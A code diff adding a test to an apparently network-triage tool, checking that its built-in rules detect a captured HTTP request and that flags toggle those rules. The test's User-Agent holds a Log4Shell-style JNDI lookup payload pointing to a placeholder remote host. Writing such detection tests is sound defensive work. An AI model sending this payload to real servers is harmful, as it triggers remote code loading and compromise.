@@ -103,4 +103,29 @@ describe('sonde rules check', () => {
     },
     SLOW,
   );
+
+  it(
+    'looks by Sonde’s own rules where no others are named, and leaves them out where they are not wanted',
+    async () => {
+      const { frames } = new Talk()
+        .open()
+        .up('GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: ${jndi:ldap://198.51.100.7/a}\r\n\r\n')
+        .close();
+      const capture = join(folder, 'jndi.pcap');
+      const packets = frames.map((data, i) => ({ ts: 1_700_000_000_000_000_000n + BigInt(i) * 1_000_000n, data }));
+      writeFileSync(capture, pcapFile(packets));
+      const told = async (...options: string[]): Promise<number[]> => {
+        const ran = await sonde(['triage', capture, '--no-models', '--json', ...options]);
+        expect(ran.code).toBe(0);
+        return (JSON.parse(ran.stdout) as { signatures: { sid: number }[] }).signatures.map(({ sid }) => sid);
+      };
+      const rules = join(folder, 'some.rules');
+      expect(await told()).toEqual([1_990_002]);
+      expect(await told('--no-own-rules')).toEqual([]);
+      expect(await told('--rules', rules)).toEqual([]);
+      expect(await told('--rules', rules, '--own-rules')).toEqual([1_990_002]);
+      expect((await sonde(['triage', capture, '--own-rules', '--no-own-rules'])).code).toBe(2);
+    },
+    SLOW,
+  );
 });
